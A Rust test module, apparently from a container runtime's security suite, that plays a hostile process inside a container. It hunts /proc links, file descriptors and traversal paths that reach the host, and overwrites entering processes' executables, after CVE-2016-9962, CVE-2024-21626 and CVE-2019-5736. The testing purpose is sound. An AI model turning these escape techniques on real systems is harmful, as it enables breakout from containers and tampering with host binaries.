//! What the hostile process in a container does. It runs there on the libraries of the host, bound read-only.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::Write;
use std::path::Path;
use std::process::ExitCode;

/// Where the attacker leaves what it finds; a directory of the test.
pub(crate) const NOTES: &str = "/notes";

pub(crate) fn run(name: &str) -> ExitCode {
    let done = match name {
        "watch-proc" => watch_proc(),
        "overwrite-exe" => overwrite_exe(),
        _ => Err(std::io::Error::other("no such attack")),
    };
    match done {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            let _ = writeln!(std::io::stderr(), "{name}: {error}");
            ExitCode::FAILURE
        }
    }
}

fn over() -> bool {
    Path::new(NOTES).join("over").exists()
}

/// The last note, whole or not at all: the test waits for its name.
fn leave_counts(text: &str) -> std::io::Result<()> {
    let notes = Path::new(NOTES);
    fs::write(notes.join("counting"), text)?;
    fs::rename(notes.join("counting"), notes.join("counts"))
}

/// Everybody else's directories in /proc.
fn others() -> std::io::Result<Vec<String>> {
    let own = std::process::id().to_string();
    let names = fs::read_dir("/proc")?.flatten().filter_map(|entry| entry.file_name().into_string().ok());
    Ok(names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()) && *name != own).collect())
}

/// CVE-2016-9962, CVE-2024-21626: looks through every process that appears, as fast as it can, for something that
/// leads out: the links exe, cwd and root, every open file, and the memory.
fn watch_proc() -> std::io::Result<()> {
    // A directory of the host that the container does not have.
    let host = std::env::var("HOST_DIRECTORY").map_err(std::io::Error::other)?;
    let (mut found, mut seen, mut refused) = (BTreeSet::new(), BTreeSet::new(), 0u64);
    while !over() {
        for pid in others()? {
            let path = format!("/proc/{pid}");
            seen.insert(pid.clone());
            for name in ["exe", "cwd", "root"] {
                match fs::read_link(format!("{path}/{name}")) {
                    Ok(target) => drop(found.insert(format!("{name} {}", target.display()))),
                    Err(error) if error.kind() == std::io::ErrorKind::PermissionDenied => refused += 1,
                    Err(_) => {}
                }
            }
            let leads_out = |link: &str| {
                let out = format!("{link}/../../../../../../../..{host}");
                fs::metadata(out).is_ok() || fs::metadata(format!("{link}{host}")).is_ok()
            };
            for name in ["cwd", "root"] {
                if leads_out(&format!("{path}/{name}")) {
                    found.insert(format!("host through {name}"));
                }
            }
            for fd in fs::read_dir(format!("{path}/fd")).into_iter().flatten().flatten() {
                if let Ok(target) = fs::read_link(fd.path()) {
                    found.insert(format!("fd {} {}", fd.file_name().display(), target.display()));
                }
                if leads_out(&fd.path().to_string_lossy()) {
                    found.insert(format!("host through fd {}", fd.file_name().display()));
                }
            }
            if File::options().write(true).open(format!("{path}/exe")).is_ok() {
                found.insert(format!("writable exe of {pid}"));
            }
        }
    }
    let mut text = String::new();
    for line in found {
        text.push_str(&line);
        text.push('\n');
    }
    fs::write(Path::new(NOTES).join("found"), text)?;
    leave_counts(&format!("{} {refused}", seen.len()))
}

/// CVE-2019-5736: holds the executable of whoever enters, and writes to it when nobody executes it any more.
fn overwrite_exe() -> std::io::Result<()> {
    let (mut held, mut written) = (Vec::new(), 0);
    while !over() {
        for pid in others()? {
            let exe = format!("/proc/{pid}/exe");
            let is_ours = fs::read_link(&exe).is_ok_and(|path| path.starts_with("/bin"));
            if !is_ours && let Ok(file) = File::open(&exe) {
                held.push(file);
            }
        }
        held.retain(|file| {
            use std::os::fd::AsRawFd;
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            match File::options().write(true).truncate(true).open(again) {
                Ok(mut file) => {
                    written += usize::from(file.write_all(b"overwritten").is_ok());
                    false
                }
                // Still executed.
                Err(error) => error.raw_os_error() == Some(26),
            }
        });
    }
    leave_counts(&format!("{} {written}", held.len()))
}
